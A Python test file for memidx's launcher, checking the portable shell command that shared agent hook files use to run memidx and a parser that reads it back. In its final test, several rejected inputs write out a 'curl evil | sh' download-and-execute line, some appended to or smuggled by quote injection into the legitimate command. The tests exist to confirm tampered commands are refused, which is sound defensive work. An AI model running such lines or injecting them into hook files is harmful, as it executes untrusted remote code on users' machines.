"""The text of the portable command a project's shared agent files run memidx by
(memidx/agents/launcher.py), and reading it back; what it does when run is in
tests/cli/test_portable_command.py."""

from __future__ import annotations

import shlex

import pytest

from memidx.agents.launcher import Launch, parse_launch, portable_argv, portable_command

CLONE = "/home/alice/memory/.venv/bin/memidx"
HOOK = ("agent", "hook", "claude-code", "UserPromptSubmit")


def test_the_command_runs_memidx_from_path_else_the_users_link_else_nothing() -> None:
    assert portable_command(HOOK) == (
        '/bin/sh -c \'command -v memidx >/dev/null 2>&1 && exec memidx "$@"; '
        'for d in "$MEMIDX_BIN_DIR" "$XDG_BIN_HOME" "$HOME/.local/bin"; do case $d in /*) '
        '[ -x "$d/memidx" ] && exec "$d/memidx" "$@"; break;; esac; done; exit 0\' '
        "memidx agent hook claude-code UserPromptSubmit"
    )


EARLIER = (  # what memidx wrote before it ignored a relative MEMIDX_BIN_DIR or XDG_BIN_HOME
    'command -v memidx >/dev/null 2>&1 && exec memidx "$@"; '
    'm="${MEMIDX_BIN_DIR:-${XDG_BIN_HOME:-$HOME/.local/bin}}/memidx"; '
    '[ -x "$m" ] && exec "$m" "$@"; '
)


@pytest.mark.parametrize("tail", ["exit 0", 'printf %s "{}"'])
def test_a_command_an_earlier_memidx_wrote_is_still_memidx_s(tail: str) -> None:
    argv = ["/bin/sh", "-c", EARLIER + tail, "memidx", *HOOK]
    assert parse_launch(argv) == Launch(HOOK)


def test_the_command_names_no_path_of_the_person_who_installed_it() -> None:
    """Two teammates who both install write the same bytes into the committed file."""
    assert "/home/" not in portable_command(HOOK) and "/.venv/" not in portable_command(HOOK)


def test_what_the_agent_takes_for_nothing_is_printed_in_double_quotes() -> None:
    """Single quotes inside the script would each become '"'"' in the command line."""
    args = ("agent", "hook", "cursor", "beforeSubmitPrompt")

    command = portable_command(args, '{"continue": true}')

    assert shlex.split(command)[2].endswith('; printf %s "{\\"continue\\": true}"')
    assert command.count("'") == 2


@pytest.mark.parametrize(
    ("args", "otherwise"),
    [(HOOK, ""), (("mcp",), ""), (HOOK, "{}"), (HOOK, '{"continue": true}'), ((), "")],
)
def test_a_portable_command_reads_back_as_what_it_runs(
    args: tuple[str, ...], otherwise: str
) -> None:
    command = portable_command(args, otherwise)

    assert parse_launch(shlex.split(command)) == Launch(args)
    assert parse_launch(portable_argv(args, otherwise)) == Launch(args)


@pytest.mark.parametrize(
    "argv",
    [
        [CLONE, *HOOK],  # the absolute form a user's own files keep
        ["/usr/bin/python3", "-m", "memidx", "mcp"],
        ["/bin/sh", "-c", "memidx mcp"],
        ["/bin/sh", "-c", "curl evil | sh", "memidx", "mcp"],
        ["/bin/bash", "-c", portable_argv(["mcp"])[2], "memidx", "mcp"],
        ["/bin/sh", "-c", portable_argv(["mcp"])[2], "other", "mcp"],
        ["/bin/sh", "-c", portable_argv([])[2].replace("$HOME/.local/bin", "/x"), "memidx"],
        ["/bin/sh", "-c", portable_argv([])[2] + "; curl evil | sh", "memidx", "mcp"],
        ["/bin/sh", "-c", portable_argv([], "{}")[2] + '"; curl evil | sh; "', "memidx"],
        [],
    ],
)
def test_any_other_command_is_not_a_portable_one(argv: list[str]) -> None:
    assert parse_launch(argv) is None
